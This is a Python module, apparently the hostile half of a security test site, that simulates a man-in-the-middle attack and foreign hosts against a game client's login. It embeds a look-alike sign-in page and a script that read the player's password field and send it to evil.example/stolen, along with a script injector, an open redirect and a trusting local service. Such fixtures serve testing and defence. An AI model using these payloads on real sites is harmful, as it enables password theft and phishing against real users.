"""The hostile side of the demo site (site.py --hostile).

A man in the middle on the plain-http portal adds pages/hostile.js to the
portal and the game page; the test arms its steps one at a time through
/hostile/arm?step=PAGE:STEP (sent straight to the site, not through the
client). Foreign hosts (anything but the operator's hosts) are answered by
the same site, through the same proxy, with pages, scripts and data that
would steal the player's password, or show a look-alike login, if the client
ever let them load. A service on the player's own machine is the site itself
at http://127.0.0.1:PORT/local/...
"""
import threading
import urllib.parse

from pathlib import Path

PAGES = Path(__file__).resolve().parent / "pages"

_lock = threading.Lock()
_armed = [0, ""]  # sequence number, "page:step"

EVIL_PAGE = b"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Velmora - Sign in</title></head>
<body style="background:#400;color:#fff;font:20px sans-serif">
<h1>EVIL PAGE</h1><p>Your session has expired. Sign in again.</p>
<form><input name="user"><input name="pw" type="password"></form>
<script>
  // As a frame it reads what the player typed into the page around it.
  var pw = '';
  try { pw = parent.document.getElementById('pass').value; } catch (e) { pw = 'unreadable'; }
  new Image().src = 'http://evil.example/stolen?from=page&pw=' + encodeURIComponent(pw);
</script></body></html>"""

EVIL_SCRIPT = b"""window.evilRan = 1;
new Image().src = 'http://evil.example/stolen?from=script&pw=' +
    encodeURIComponent((document.getElementById('pass') || {}).value || '');
"""


def inject(body):
    """The operator's page with the man in the middle's script added."""
    return body.replace(b"</body>", b'<script src="/hostile/inject.js"></script>\n</body>', 1)


def arm(step):
    with _lock:
        _armed[0] += 1
        _armed[1] = step
        return _armed[0]


def answer(handler, host, path, local_origin):
    """Answers the hostile paths (on any host) and the player's own machine;
    False for everything else."""
    bare = path.split("?", 1)[0]
    query = urllib.parse.parse_qs(path.split("?", 1)[1]) if "?" in path else {}
    if bare == "/hostile/inject.js":
        script = (PAGES / "hostile.js").read_bytes().replace(b"__LOCAL_ORIGIN__", local_origin.encode())
        handler.send_bytes(200, "application/javascript", script)
    elif bare == "/hostile/step":
        with _lock:
            handler.send_bytes(200, "text/plain", f"{_armed[0]} {_armed[1]}".encode())
    elif bare == "/hostile/arm":
        handler.send_bytes(200, "text/plain", str(arm(query.get("step", [""])[0])).encode())
    elif bare in ("/hostile/report", "/hostile/own"):
        handler.send_bytes(200, "text/plain", b"own data")
    elif bare == "/hostile/redirect":
        handler.send_response(302)
        handler.send_header("Location", query.get("to", ["/"])[0])
        handler.send_header("Content-Length", "0")
        handler.end_headers()
    elif host.startswith("127.0.0.1") and bare.startswith("/local/"):
        # The player's own machine: a service that trusts whoever asks.
        handler.send_bytes(200, "text/plain", b"LOCAL-SECRET-42", cors=True)
    else:
        return False
    return True


def foreign(handler, bare):
    """A foreign host's answer to a path the operator's site does not have."""
    if bare.endswith(".js"):
        handler.send_bytes(200, "application/javascript", EVIL_SCRIPT)
    elif bare.endswith(".css"):
        handler.send_bytes(200, "text/css", b"body { background: #f00 !important; }")
    elif bare.endswith(".png"):
        handler.send_bytes(200, "image/png", bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
            "0000000c4944415478da63f8cfc000000301010018dd8db00000000049454e44ae426082"))
    elif bare in ("/collect", "/stolen", "/popup"):
        handler.send_bytes(200, "text/plain", b"EVIL-DATA", cors=True)
    else:
        handler.send_bytes(200, "text/html; charset=utf-8", EVIL_PAGE)
